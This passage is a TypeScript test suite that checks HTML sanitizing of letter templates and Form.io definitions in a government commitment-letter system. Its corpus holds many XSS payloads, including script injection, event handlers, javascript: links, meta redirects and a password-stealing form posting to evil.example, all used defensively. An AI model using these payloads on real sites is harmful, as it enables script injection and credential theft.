import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import Handlebars from "handlebars";
import { DomUtils, parseDocument } from "htmlparser2";
import { isTag, isText, type ChildNode, type Element } from "domhandler";
import request from "supertest";
import { CatalogItem } from "../../server/db/models/CatalogItem.js";
import { CatalogItemVersion } from "../../server/db/models/CatalogItemVersion.js";
import { Commitment } from "../../server/db/models/Commitment.js";
import { checkLetterTemplate, renderLetter, renderLetterBody, type LetterContext } from "../../server/domain/catalog/letter.js";
import { SHIPPED_ITEMS } from "../../server/domain/catalog/seedCatalog.js";
import { ValidationError } from "../../server/errors.js";
import { getFormRevision, publishFormRevision, saveFormRevision } from "../../server/forms/index.js";
import { sanitizeInlineHtml, sanitizeRichHtml, sanitizeText } from "../../server/html/sanitize.js";
import { buildSubject, buildUser, departmentId, loginAs, type Agent } from "../helpers/factories.js";
import { testApp } from "../helpers/testApp.js";
import { ensureShippedForms, itemFields, randomItemCode } from "../domain/commitments/fixtures.js";

// What the tests accept in designer HTML, written out here rather than imported, so a change to the
// sanitizer's lists has to be made on purpose in both places.
const RICH = new Set(
  "b strong em i u s span sub sup small br p div h1 h2 h3 h4 h5 h6 ul ol li table caption thead tbody tfoot tr th td blockquote hr a article section header footer".split(
    " ",
  ),
);
const INLINE = new Set("b strong em i u s span sub sup small br".split(" "));
const ATTRIBUTES = new Set("class style title lang dir href colspan rowspan scope start type".split(" "));
const BAD_CLASS = /^(?:position-|fixed-|sticky-|d-|z-|visually-hidden|stretched-link|modal)/;
const BAD_STYLE = /url\s*\(|expression|@import|javascript|behavior|position|display|visibility|content\s*:/i;

/** Everything a browser could run or be sent away by, in parsed nodes (entities decoded by the parser). */
function problemsIn(nodes: ChildNode[], tags: Set<string>, extraAttributes: string[] = []): string[] {
  const problems: string[] = [];
  const visit = (list: ChildNode[]) => {
    for (const node of list) {
      if (!isTag(node) && !isText(node)) problems.push(`${node.type} node (comment, directive or CDATA)`);
      if (!isTag(node)) continue;
      const name = node.name.toLowerCase();
      if (!tags.has(name)) problems.push(`<${name}>`);
      for (const [rawName, value] of Object.entries(node.attribs)) {
        const attr = rawName.toLowerCase();
        if (attr.startsWith("on")) problems.push(`${name}[${attr}] event handler`);
        else if (!ATTRIBUTES.has(attr) && !extraAttributes.includes(attr)) problems.push(`${name}[${attr}]`);
        if (attr === "href") {
          // eslint-disable-next-line no-control-regex
          const url = value.replace(/[\u0000-\u0020]/g, "");
          if (/^[/\\]{2}/.test(url) || (/^[a-z][a-z0-9+.-]*:/i.test(url) && !/^(?:https?|mailto):/i.test(url)))
            problems.push(`${name}[href=${value}]`);
        }
        if (attr === "style" && BAD_STYLE.test(value)) problems.push(`${name}[style=${value}]`);
        if (attr === "class" && value.split(/\s+/).some((c) => BAD_CLASS.test(c))) problems.push(`${name}[class=${value}]`);
        if (/\{\{|\{%/.test(value)) problems.push(`${name}[${attr}] filled from data`);
      }
      visit(node.children);
    }
  };
  visit(nodes);
  return problems;
}

function assertSafeHtml(html: string, where: string, tags = RICH): void {
  assert.deepEqual(problemsIn(parseDocument(html).children, tags), [], `${where}: ${html}`);
}

/** A value Form.io writes unescaped between double quotes must stay that one attribute of that one element. */
function assertStaysInAttribute(value: string, where: string): void {
  const doc = parseDocument(`<span data-x="${value}"></span>`);
  const elements = DomUtils.findAll(() => true, doc.children);
  assert.equal(elements.length, 1, `${where} breaks out of its element: ${value}`);
  assert.deepEqual(Object.keys(elements[0]!.attribs), ["data-x"], `${where} breaks out of its attribute: ${value}`);
}

const byTestId = (root: ChildNode[], id: string) => DomUtils.findOne((e) => e.attribs["data-testid"] === id, root, true);
const all = (root: ChildNode[] | Element, test: (e: Element) => boolean) => DomUtils.findAll(test, Array.isArray(root) ? root : [root]);
const hasClass = (e: Element, c: string) => (e.attribs.class ?? "").split(/\s+/).includes(c);

/**
 * A whole page: nothing anywhere that runs, refreshes or rebases (scripts only from this site, no inline code),
 * and the designer's part (the element with data-testid) holds only allowed tags and attributes.
 */
function assertSafePage(html: string, testId: string, where: string): Element {
  const doc = parseDocument(html);
  for (const script of all(doc.children, (e) => e.name === "script")) {
    assert.ok(/^\/(?!\/)/.test(script.attribs.src ?? ""), `${where}: a script not from this site: ${script.attribs.src}`);
    assert.equal(DomUtils.textContent(script).trim(), "", `${where}: an inline script`);
  }
  assert.deepEqual(
    all(
      doc.children,
      (e) => ["base", "iframe", "object", "embed", "frame", "svg", "math"].includes(e.name) || "http-equiv" in e.attribs,
    ).map((e) => e.name),
    [],
    `${where}: base, frames, plugins, svg or http-equiv on the page`,
  );
  for (const e of all(doc.children, () => true)) {
    for (const a of Object.keys(e.attribs)) assert.ok(!a.toLowerCase().startsWith("on"), `${where}: <${e.name} ${a}>`);
    if (e.name === "form") assert.ok(/^\/(?!\/)/.test(e.attribs.action ?? "/"), `${where}: a form posting to ${e.attribs.action}`);
  }
  const part = byTestId(doc.children, testId);
  assert.ok(part, `${where}: no data-testid="${testId}"`);
  assert.deepEqual(problemsIn(part.children, RICH), [], `${where}: the designer's HTML`);
  return part;
}

// ---------------------------------------------------------------------------------------------------------
// A letter template with the formatting a real one needs, and one with every trick in the corpus.

const GOOD_TEMPLATE = `<h2 style="text-align: center">承诺事项</h2>
<p style="text-indent: 2em">本单位 <strong>{{subject.name}}</strong>（{{subject.code}}）申请办理<b>{{commitment.itemName}}</b>，<em>经营场所</em>{{data.premises}}，负责人<u>{{data.principal}}</u>。</p>
<table class="table table-bordered"><thead><tr><th colspan="2">承诺内容</th></tr></thead><tbody><tr><td>经营场所</td><td>{{data.premises}}</td></tr></tbody></table>
<ol><li>所报材料真实有效；</li><li>如违反承诺，愿意承担违诺责任。</li></ol>
<p class="letter-note text-end">特此承诺。</p>`;

const HOSTILE_SNIPPETS = [
  `<script>alert(1)</script>`,
  `<scr{{!}}ipt>alert(1)</scr{{!}}ipt>`,
  `<scr{{!-- split --}}ipt src="https://evil.example/x.js"></script>`,
  `<me{{!}}ta http-equiv=refresh content="0;url=https://evil.example">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<img src=x onerror=alert(1)>`,
  `<p class="a"/onerror="alert(1)">slash</p>`,
  `<svg/onload=alert(1)>`,
  `<a href="jav&#x61;script:alert(1)">entity</a>`,
  `<a href="javascript&colon;alert(1)">colon</a>`,
  `<a href=" JaVaScRiPt:alert(1)">case</a>`,
  `<a href="jav&#9;ascript:alert(1)">tab</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>`,
  `<a href="//evil.example/">protocol-relative</a>`,
  `<a href="/\\evil.example/">backslash</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/steal"><input name="password"><button>提交</button></form>`,
  `<style>@import url(https://evil.example/x.css); body{display:none}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<p style="background:url(javascript:alert(1))">bg</p>`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</p>`,
  `<p style="width:expression(alert(1))">expr</p>`,
  `<div data-bs-toggle="modal" data-bs-target="#x" id="xyFormio">data attributes</div>`,
  `<p class="position-fixed d-none visually-hidden text-center">classes</p>`,
  `<math><mi xlink:href="javascript:alert(1)">m</mi></math>`,
  `<details open ontoggle=alert(1)>d</details>`,
  `<p onclick="alert(1)" ONMOUSEOVER="alert(1)">handlers</p>`,
  `<!--><script>alert(1)</script>-->`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">n</p></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<table><tr><td background="javascript:alert(1)">cell</td></tr></table>`,
  `<a href="https://ok.example/" target="_blank">ok link</a>`,
  `<p class="{{data.premises}}" title="{{data.principal}}">data in attributes</p>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
];
const HOSTILE_TEMPLATE = `${GOOD_TEMPLATE}\n${HOSTILE_SNIPPETS.join("\n")}`;

/** Applicant data that must stay text wherever the template puts it. */
const HOSTILE_DATA = `<script>alert(1)</script>"><img src=x onerror=alert(1)>`;

const uniq = () => randomBytes(4).toString("hex");

function letterContext(data: Record<string, unknown> = { premises: HOSTILE_DATA, principal: "javascript:alert(1)" }): LetterContext {
  return {
    subject: { name: `测试企业<b>${uniq()}</b>`, code: "91410182MA00000000", type: "法人及非法人组织" },
    data,
    commitment: {
      code: "410182202611270000001",
      itemName: "食品经营许可",
      acceptingUnit: "荥阳市市场监督管理局",
      signerName: "张三",
      signedOn: "2026-11-27",
    },
  };
}

/** The legitimate formatting of GOOD_TEMPLATE and of the letter frame, found in parsed output. */
function assertLetterFormatting(root: ChildNode[] | Element, where: string): void {
  const find = (test: (e: Element) => boolean, what: string) => assert.ok(all(root, test).length > 0, `${where}: lost ${what}`);
  find((e) => e.name === "article" && hasClass(e, "commitment-letter"), "article.commitment-letter");
  find((e) => e.name === "h1" && DomUtils.textContent(e) === "信用承诺书", "the title");
  find((e) => e.name === "p" && hasClass(e, "letter-meta"), "p.letter-meta");
  find((e) => e.name === "section" && hasClass(e, "letter-body"), "section.letter-body");
  find((e) => e.name === "footer" && hasClass(e, "letter-signature"), "footer.letter-signature");
  find((e) => e.name === "h2" && (e.attribs.style ?? "").includes("text-align:center"), "h2 text-align");
  find((e) => e.name === "p" && (e.attribs.style ?? "").includes("text-indent:2em"), "p text-indent");
  for (const tag of ["strong", "b", "em", "u", "ol", "li", "thead", "tbody", "td"]) find((e) => e.name === tag, `<${tag}>`);
  find((e) => e.name === "table" && hasClass(e, "table") && hasClass(e, "table-bordered"), "table.table-bordered");
  find((e) => e.name === "th" && e.attribs.colspan === "2", "th colspan");
  find((e) => e.name === "p" && hasClass(e, "letter-note") && hasClass(e, "text-end"), "p.letter-note.text-end");
}

const json = (agent: Agent, url: string, body: unknown) =>
  agent
    .post(url)
    .set("Accept", "application/json")
    .set("X-CSRF-Token", agent.csrf)
    .send(body as object);
const form = (agent: Agent, url: string, body: Record<string, string>) =>
  agent
    .post(url)
    .type("form")
    .send({ _csrf: agent.csrf, ...body });

async function taskIdOf(code: string): Promise<string> {
  const [task] = await testApp().app.locals.context.engine.findTasks({ businessKey: code });
  assert.ok(task, `no open task for ${code}`);
  return task.id;
}

// ---------------------------------------------------------------------------------------------------------
// A form with hostile designer text at every depth Form.io nests components.

const SCHEME_ATTR = "jav&#x61;script:alert(1)";
function hostileForm() {
  return {
    display: "form",
    title: "<img src=x onerror=alert(1)>表单",
    settings: { sanitizeConfig: { addTags: ["script", "iframe", "meta"], addAttr: ["onerror", "http-equiv"], allowedUriRegex: ".*" } },
    globalSettings: { sanitizeConfig: { addTags: ["script"] } },
    components: [
      {
        type: "content",
        key: "intro",
        input: false,
        html:
          `<p>请如实填写，<b>带 * 为必填</b>。</p><script>alert(1)</script><img src=x onerror=alert(1)>` +
          `<me` +
          `ta http-equiv=refresh content="0;url=https://evil.example"><a href="${SCHEME_ATTR}">x</a>` +
          `<iframe src="//evil.example"></iframe><style>@import url(//evil.example/x.css)</style>` +
          `<form action="https://evil.example"><input name="p"></form><svg/onload=alert(1)><p class="{{ data.premises }}">interpolated</p>`,
      },
      {
        type: "htmlelement",
        key: "element",
        input: false,
        tag: "img src=x onerror=alert(1)",
        content: "<b>说明</b><script>alert(1)</script>",
        className: 'text-center" onmouseover="alert(1)',
        attrs: [
          { attr: "onclick", value: "alert(1)" },
          { attr: "style", value: "background:url(javascript:alert(1));text-align:center" },
          { attr: "class", value: "text-center position-fixed" },
          { attr: "title", value: 'x" onmouseover="alert(1)' },
          { attr: "data-bs-toggle", value: "modal" },
          { attr: "x onmouseover", value: "alert(1)" },
        ],
      },
      {
        type: "htmlelement",
        key: "badLink",
        input: false,
        tag: "a",
        content: "坏链接",
        attrs: [{ attr: "href", value: SCHEME_ATTR }],
      },
      {
        type: "htmlelement",
        key: "goodLink",
        input: false,
        tag: "A",
        content: "办事指南",
        attrs: [{ attr: "href", value: "https://www.example.gov.cn/guide?a=1&amp;b=2" }],
      },
      {
        type: "panel",
        key: "main",
        title: "<img src=x onerror=alert(1)>经营主体",
        theme: 'default" onclick="alert(1)',
        components: [
          {
            type: "columns",
            key: "cols",
            columns: [
              {
                width: 6,
                size: "md",
                components: [
                  {
                    type: "textfield",
                    key: "premises",
                    input: true,
                    label: "经营场所<script>alert(1)</script><b>（必填）</b>",
                    description: '<a href="javascript:alert(1)">说明</a><i>按营业执照填写</i>',
                    tooltip: "<img src=x onerror=alert(1)>提示",
                    placeholder: '" autofocus onfocus="alert(1)',
                    prefix: "<svg/onload=alert(1)>",
                    suffix: "<b>号</b>",
                    customClass: "mb-3 position-fixed",
                    attributes: { onfocus: "alert(1)", autocomplete: "off", "data-bs-toggle": "modal", title: SCHEME_ATTR },
                    validate: { customMessage: "<img src=x onerror=alert(1)>请填写经营场所" },
                  },
                ],
              },
              { width: 6, size: 'md" onclick="alert(1)', components: [] },
            ],
          },
          {
            type: "table",
            key: "grid",
            header: ["<b>列</b><script>alert(1)</script>"],
            rows: [[{ components: [{ type: "content", key: "cell", input: false, html: "<p onclick=alert(1)>单元格</p>" }] }]],
          },
          {
            type: "tabs",
            key: "tabs",
            components: [
              {
                key: 'tab1" onclick="alert(1)',
                label: "<img src=x onerror=alert(1)>页签",
                components: [
                  {
                    type: "radio",
                    key: "kind",
                    input: true,
                    label: "类型",
                    values: [
                      { label: "<b>甲</b><script>alert(1)</script>", value: "a" },
                      { label: '乙"><img src=x onerror=alert(1)>', value: 'b"><img src=x onerror=alert(1)>' },
                    ],
                  },
                ],
              },
            ],
          },
          {
            type: "datagrid",
            key: "staff",
            input: true,
            label: "从业人员<img src=x onerror=alert(1)>",
            addAnother: "<img src=x onerror=alert(1)>添加",
            components: [{ type: "textfield", key: "name", input: true, label: "姓名<svg onload=alert(1)>" }],
          },
          {
            type: "fieldset",
            key: "fs",
            legend: "<script>alert(1)</script>负责人",
            components: [
              { type: "textfield", key: "principal", input: true, label: "负责人" },
              {
                type: "select",
                key: "project",
                input: true,
                label: "经营项目",
                dataSrc: "values",
                data: { values: [{ label: "<img src=x onerror=alert(1)>零售", value: "retail" }] },
              },
            ],
          },
          {
            type: "well",
            key: "note",
            components: [
              { type: "content", key: "hint", input: false, html: '<div class="alert alert-info">提示：<strong>如实</strong>填写</div>' },
            ],
          },
        ],
      },
    ],
  };
}
const HOSTILE_KEYS = [
  "intro",
  "element",
  "badLink",
  "goodLink",
  "main",
  "cols",
  "premises",
  "grid",
  "cell",
  "tabs",
  "kind",
  "staff",
  "name",
  "fs",
  "principal",
  "project",
  "note",
  "hint",
];

type Component = Record<string, unknown> & { key?: string; type?: string };

function eachComponent(list: unknown, fn: (c: Component) => void): void {
  if (!Array.isArray(list)) return;
  for (const c of list as Component[]) {
    if (!c || typeof c !== "object") continue;
    fn(c);
    eachComponent(c.components, fn);
    for (const col of (Array.isArray(c.columns) ? c.columns : []) as Component[]) eachComponent(col?.components, fn);
    for (const row of (Array.isArray(c.rows) ? c.rows : []) as Component[][])
      for (const cell of Array.isArray(row) ? row : []) eachComponent(cell?.components, fn);
  }
}

/** The definition a browser receives: no way left for designer text to run or to widen Form.io's own sanitizer. */
function assertSafeDefinition(definition: Record<string, unknown>, where: string): void {
  const settings = (definition.settings ?? {}) as Record<string, unknown>;
  assert.equal(settings.sanitizeConfig, undefined, `${where}: settings.sanitizeConfig`);
  assert.equal(settings.components, undefined, `${where}: settings.components`);
  assert.equal(definition.globalSettings, undefined, `${where}: globalSettings`);
  const seen: string[] = [];
  eachComponent(definition.components, (c) => {
    const at = `${where} ${String(c.key)}`;
    if (typeof c.key === "string") {
      seen.push(c.key);
      assertStaysInAttribute(c.key, `${at} key`);
    }
    for (const prop of ["label", "description", "tooltip", "prefix", "suffix", "legend", "title"]) {
      if (typeof c[prop] !== "string") continue;
      assertSafeHtml(c[prop], `${at} ${prop}`, INLINE);
      assertStaysInAttribute(c[prop], `${at} ${prop}`);
    }
    for (const prop of ["placeholder", "addAnother", "errorLabel"]) {
      if (typeof c[prop] !== "string") continue;
      assertSafeHtml(c[prop], `${at} ${prop}`, new Set());
      assertStaysInAttribute(c[prop], `${at} ${prop}`);
    }
    const message = (c.validate as { customMessage?: unknown } | undefined)?.customMessage;
    if (typeof message === "string") assertSafeHtml(message, `${at} customMessage`, INLINE);
    for (const h of Array.isArray(c.header) ? (c.header as unknown[]) : [])
      if (typeof h === "string") assertSafeHtml(h, `${at} header`, INLINE);
    for (const prop of ["customClass", "className", "theme"])
      if (typeof c[prop] === "string") assertStaysInAttribute(c[prop], `${at} ${prop}`);
    if (c.type === "content") assertSafeHtml(String(c.html), `${at} html`);
    if (c.type === "htmlelement") {
      // Exactly what the bootstrap5 html template builds from tag, className, attrs and content.
      const tag = String(c.tag);
      assert.ok(RICH.has(tag), `${at}: tag ${tag}`);
      const attrs = (c.attrs as { attr: string; value: string }[]).map((a) => `${a.attr}="${a.value}"`).join(" ");
      const text = (v: unknown) => (typeof v === "string" ? v : "");
      const built = `<${tag} class="formio-component-htmlelement ${text(c.className)}" ref="html" ${attrs}>${text(c.content)}</${tag}>`;
      assert.deepEqual(problemsIn(parseDocument(built).children, RICH, ["ref"]), [], `${at}: ${built}`);
    }
    const choices = [...((c.values as unknown[]) ?? []), ...((c.data as { values?: unknown[] } | undefined)?.values ?? [])];
    for (const option of choices as { label?: unknown; value?: unknown }[]) {
      if (typeof option.label === "string") {
        assertSafeHtml(option.label, `${at} option label`, new Set());
        assertStaysInAttribute(option.label, `${at} option label`);
      }
      if (typeof option.value === "string") {
        assertSafeHtml(option.value, `${at} option value`, new Set());
        assertStaysInAttribute(option.value, `${at} option value`);
      }
    }
    if (c.attributes && typeof c.attributes === "object") {
      for (const [name, value] of Object.entries(c.attributes as Record<string, string>)) {
        assert.ok(!/^on|^data-/i.test(name), `${at}: attribute ${name}`);
        assert.ok(!/:/.test(String(value)), `${at}: attribute ${name}=${String(value)}`);
        assertStaysInAttribute(String(value), `${at} attribute ${name}`);
      }
    }
    for (const col of (Array.isArray(c.columns) ? c.columns : []) as { size?: unknown }[])
      if (typeof col.size === "string") assertStaysInAttribute(`col-${col.size}-6`, `${at} column size`);
  });
  assert.deepEqual(
    HOSTILE_KEYS.filter((k) => !seen.includes(k)),
    [],
    `${where}: components not reached`,
  );
}

/** What the designer meant as formatting is still there after sanitizing. */
function assertFormFormatting(definition: Record<string, unknown>, where: string): void {
  const byKey = new Map<string, Component>();
  eachComponent(definition.components, (c) => byKey.set(String(c.key), c));
  const premises = byKey.get("premises")!;
  assert.equal(premises.label, "经营场所<b>（必填）</b>", where);
  assert.equal(premises.description, "说明<i>按营业执照填写</i>", where);
  assert.equal(premises.suffix, "<b>号</b>", where);
  assert.equal(premises.customClass, "mb-3", where);
  assert.deepEqual(premises.attributes, { autocomplete: "off" }, where);
  assert.match(String(byKey.get("intro")!.html), /^<p>请如实填写，<b>带 \* 为必填<\/b>。<\/p>/, where);
  assert.equal(byKey.get("hint")!.html, '<div class="alert alert-info">提示：<strong>如实</strong>填写</div>', where);
  const element = byKey.get("element")!;
  assert.equal(element.tag, "div", where);
  assert.equal(element.content, "<b>说明</b>", where);
  assert.deepEqual(
    element.attrs,
    [
      { attr: "style", value: "text-align:center" },
      { attr: "class", value: "text-center" },
    ],
    where,
  );
  assert.deepEqual(byKey.get("badLink")!.attrs, [], where);
  assert.equal(byKey.get("goodLink")!.tag, "a", where);
  assert.deepEqual(byKey.get("goodLink")!.attrs, [{ attr: "href", value: "https://www.example.gov.cn/guide?a=1&amp;b=2" }], where);
  assert.equal((byKey.get("kind")!.values as { label: string }[])[0]!.label, "甲", where);
  assert.equal((byKey.get("kind")!.values as { value: string }[])[0]!.value, "a", where);
  assert.equal(byKey.get("principal")!.label, "负责人", where);
}

// ---------------------------------------------------------------------------------------------------------

describe("designer HTML is sanitized on output (letters, Form.io text)", () => {
  describe("the sanitizer", () => {
    it("removes every construct of the corpus, keeps formatting, and is idempotent", () => {
      const source = HOSTILE_SNIPPETS.map((s) => s.replace(/\{\{!(?:--[^]*?--)?\}\}/g, "")).join("\n") + GOOD_TEMPLATE;
      const once = sanitizeRichHtml(source);
      assertSafeHtml(once, "rich");
      assert.equal(sanitizeRichHtml(once), once, "a second pass changes nothing");
      const doc = parseDocument(once);
      assert.ok(all(doc.children, (e) => e.name === "a" && e.attribs.href === "https://ok.example/").length === 1, "an https link stays");
      assert.ok(!all(doc.children, (e) => "target" in e.attribs).length, "no target");
      assert.ok(DomUtils.textContent(doc).includes("<script>alert(1)</script>"), "entity-encoded tags stay text");
      assert.ok(!DomUtils.textContent(doc).includes("@import"), "style sheet text is dropped with <style>");
    });

    it("passes ordinary labels unchanged and keeps only inline tags in label text", () => {
      for (const label of [
        "经营场所",
        "已建立食品安全管理制度（进货查验、从业人员健康管理、食品安全自查等）",
        "选择“不予通过”时必须填写理由",
      ]) {
        assert.equal(sanitizeInlineHtml(label), label);
        assert.equal(sanitizeText(label), label);
      }
      assert.equal(sanitizeInlineHtml('<p>段</p><b>粗</b> "引号" & <img src=x onerror=1>'), "段<b>粗</b> &quot;引号&quot; &amp; ");
      assert.equal(sanitizeText("<b>粗</b><script>x</script>"), "粗");
    });
  });

  describe("letter templates", () => {
    it("refuses, when saving, the tags and attributes the sanitizer would remove, naming them in Chinese", () => {
      const cases: [string, RegExp][] = [
        ["<scr{{!}}ipt>alert(1)</scr{{!}}ipt>", /<script>/],
        ['<me{{!}}ta http-equiv=refresh content="0;url=https://evil.example">', /<meta>/],
        ['<p class="a"/onerror="alert(1)">x</p>', /onerror 属性/],
        ["<svg/onload=alert(1)>", /<svg>/],
        ['<a href="jav&#x61;script:alert(1)">x</a>', /链接/],
        ['<p style="background:url(javascript:alert(1))">x</p>', /样式/],
        ["{{#if data.x}}<ifr{{/if}}ame src=//evil.example>", /<iframe>/],
        ['<div data-bs-toggle="modal">x</div>', /data-bs-toggle 属性/],
      ];
      for (const [template, named] of cases) {
        const problems = checkLetterTemplate(`<p>正文</p>${template}`);
        assert.equal(problems.length, 1, template);
        assert.equal(problems[0]!.path, "letterTemplate");
        assert.match(problems[0]!.message, /承诺书模板包含不允许的 HTML/);
        assert.match(problems[0]!.message, named, template);
      }
      assert.deepEqual(checkLetterTemplate(GOOD_TEMPLATE), []);
      for (const item of SHIPPED_ITEMS) assert.deepEqual(checkLetterTemplate(item.fields.letterTemplate), [], item.itemCode);
    });

    it("renders every hostile snippet without an executable construct, applicant data as text, formatting kept", () => {
      for (const snippet of HOSTILE_SNIPPETS) {
        const html = renderLetter(`${GOOD_TEMPLATE}\n${snippet}`, letterContext());
        const doc = parseDocument(html);
        assert.deepEqual(problemsIn(doc.children, RICH), [], `${snippet}\n=> ${html}`);
        assertLetterFormatting(doc.children, snippet);
        assert.ok(DomUtils.textContent(doc).includes(HOSTILE_DATA), "the applicant's text is shown as text");
        assert.equal(renderLetter(`${GOOD_TEMPLATE}\n${snippet}`, letterContext({ premises: "x", principal: "y" })).includes("{{"), false);
      }
      // Applicant data in attributes: class and title filled from data are dropped, never parsed as markup.
      const attrs = renderLetterBody('<p class="{{data.premises}}" title="{{data.principal}}">x</p>', letterContext());
      assertSafeHtml(attrs, "data in attributes");
      // {{{ }}} never renders, even from a template stored before any check.
      assert.throws(() => renderLetter("<p>{{{data.premises}}}</p>", letterContext()), ValidationError);
    });

    it("renders the shipped letter templates as before: the same elements, attributes and text", () => {
      const raw = Handlebars.create();
      for (const item of SHIPPED_ITEMS) {
        const ctx = letterContext({
          premises: "荥阳市索河路1号 A&B <1>",
          principal: "张三",
          projectName: "综合楼",
          siteAddress: "荥阳市",
          contractor: "某建设公司",
          contractPrice: 1200,
        });
        const before = parseDocument(raw.compile(item.fields.letterTemplate)(ctx));
        const after = parseDocument(renderLetterBody(item.fields.letterTemplate, ctx));
        const shape = (nodes: ChildNode[]): unknown =>
          nodes.map((n) => (isTag(n) ? [n.name, n.attribs, shape(n.children)] : isText(n) ? n.data : n.type));
        assert.deepEqual(shape(after.children), shape(before.children), item.itemCode);
        assertLetterFormatting(parseDocument(renderLetter(GOOD_TEMPLATE, ctx)).children, "good template");
      }
    });

    it("keeps a hostile template saved before the check off every page, print, JSON and archive that shows the letter", async () => {
      await ensureShippedForms();
      const deptAdmin = await loginAs(await buildUser({ roles: ["dept_admin"], department: "scjgj" }));
      const { db } = testApp();
      const formKey = `test-html-${uniq()}`;
      const saved = await saveFormRevision(db, { formKey, title: "经营场所申请", definition: hostileForm(), actor: "test" });
      await publishFormRevision(db, formKey, saved.revision, "test");
      const itemCode = randomItemCode();

      // Through the API the hostile template is refused and names what would be removed.
      const refused = await json(deptAdmin, "/api/catalog", {
        itemCode,
        ...itemFields(formKey, { letterTemplate: HOSTILE_TEMPLATE }),
      }).expect(400);
      const detail = refused.body.error.details.find((d: { path: string }) => d.path === "letterTemplate");
      for (const named of ["<script>", "<meta>", "<iframe>", "<form>", "<style>", "onerror 属性", "<base>"])
        assert.ok(detail.message.includes(named), named);
      // A legitimate template is accepted and published...
      await json(deptAdmin, "/api/catalog", { itemCode, ...itemFields(formKey, { letterTemplate: GOOD_TEMPLATE }) }).expect(201);
      await json(deptAdmin, `/api/catalog/${itemCode}/publish`, {}).expect(200);
      // ...and then its stored source becomes the hostile one, as if it had been saved before the check existed.
      const item = (await CatalogItem.findOne({ where: { itemCode } }))!;
      await CatalogItemVersion.update({ letterTemplate: HOSTILE_TEMPLATE }, { where: { id: item.publishedVersionId! } });

      const subject = await buildSubject();
      const applicant = await loginAs(await buildUser({ roles: ["applicant"], subjectIds: [subject.id] }));
      const data = { premises: HOSTILE_DATA, principal: "javascript:alert(1)", kind: "a" };
      const check = await json(applicant, `/catalog/${itemCode}/apply/check?subject=${subject.code}`, { data }).expect(200);
      const preview = await applicant.get(check.body.redirect as string).expect(200);
      const previewed = assertSafePage(preview.text, "letter-preview", "preview");
      assertLetterFormatting(previewed, "preview");
      assert.ok(DomUtils.textContent(previewed).includes(HOSTILE_DATA), "preview: the applicant's text is text");
      const done = await form(applicant, `/catalog/${itemCode}/apply/submit`, {
        subject: subject.code,
        signerName: "李四",
        agreed: "on",
      }).expect(303);
      const code = /^\/my\/cases\/(\d{20})\/submitted$/.exec(done.headers.location!)![1]!;
      const stored = (await Commitment.findOne({ where: { code } }))!;
      assertSafeHtml(stored.letterHtml, "the stored, signed letter");

      const reviewer = await loginAs(await buildUser({ roles: ["reviewer"], department: "scjgj" }));
      const taskId = await taskIdOf(code);
      const checkEverywhere = async (label: string) => {
        const letterPage = await applicant.get(`/my/cases/${code}/letter`).expect(200);
        assertLetterFormatting(assertSafePage(letterPage.text, "letter", `${label} letter page`), `${label} letter page`);
        const print = await applicant.get(`/api/commitments/${code}/letter`).expect(200);
        const printed = parseDocument(print.text);
        const body = DomUtils.findOne((e) => e.name === "body", printed.children, true)!;
        assert.deepEqual(problemsIn(body.children, RICH), [], `${label} print page`);
        assert.deepEqual(
          all(printed.children, (e) => e.name === "meta").map((e) => Object.keys(e.attribs)),
          [["charset"]],
          `${label} print head`,
        );
        assertLetterFormatting(body, `${label} print page`);
        const task = await reviewer.get(`/tasks/${taskId}`).expect(200);
        assertLetterFormatting(assertSafePage(task.text, "signed-letter", `${label} task page`), `${label} task page`);
        const api = await applicant.get(`/api/commitments/${code}`).expect(200);
        assertSafeHtml(api.body.data.letter.html, `${label} /api/commitments letter`);
        for (const s of api.body.data.submissions) assertSafeHtml(s.letterHtml, `${label} /api/commitments submission`);
        const archive = await reviewer.get(`/api/archive?format=json&item=${itemCode}`).expect(200);
        assert.equal(archive.body.data.length, 1);
        assertSafeHtml(archive.body.data[0].letterHtml, `${label} archive`);
        // 承诺内容 is the letter's text: the applicant's words as written, nothing of the removed markup.
        const content = String(archive.body.data[0].content);
        assert.ok(
          (label === "stored raw" || content.includes(HOSTILE_DATA)) && !/evil\.example|@import|http-equiv/.test(content),
          `${label} archive 承诺内容: ${content}`,
        );
      };
      await checkEverywhere("signed now");
      // A letter stored before output sanitizing existed (the raw Handlebars output) is sanitized on the way out.
      await Commitment.update(
        {
          letterHtml: `<article class="commitment-letter"><h1>信用承诺书</h1><p class="letter-meta">x</p><section class="letter-body">${HOSTILE_TEMPLATE.replace(/\{\{!(?:--[^]*?--)?\}\}/g, "").replace(/\{\{[^}]*\}\}/g, "x")}</section><footer class="letter-signature"><p>签字</p></footer></article>`,
        },
        { where: { code } },
      );
      await checkEverywhere("stored raw");
    });
  });

  describe("Form.io definitions sent to browsers", () => {
    let formKey: string;
    let itemCode: string;
    let code: string;
    let applicant: Agent;

    before(async () => {
      await ensureShippedForms();
      const { db } = testApp();
      formKey = `test-html-${uniq()}`;
      const saved = await saveFormRevision(db, {
        formKey,
        title: "<b>表单</b>",
        definition: hostileForm(),
        actor: "test",
        departmentId: await departmentId("scjgj"),
      });
      await publishFormRevision(db, formKey, saved.revision, "test");
      const deptAdmin = await loginAs(await buildUser({ roles: ["dept_admin"], department: "scjgj" }));
      itemCode = randomItemCode();
      await json(deptAdmin, "/api/catalog", { itemCode, ...itemFields(formKey, { letterTemplate: GOOD_TEMPLATE }) }).expect(201);
      await json(deptAdmin, `/api/catalog/${itemCode}/publish`, {}).expect(200);
      const subject = await buildSubject();
      applicant = await loginAs(await buildUser({ roles: ["applicant"], subjectIds: [subject.id] }));
      const check = await json(applicant, `/catalog/${itemCode}/apply/check?subject=${subject.code}`, {
        data: { premises: "荥阳市索河路1号", principal: "张三", kind: "a" },
      }).expect(200);
      await applicant.get(check.body.redirect as string).expect(200);
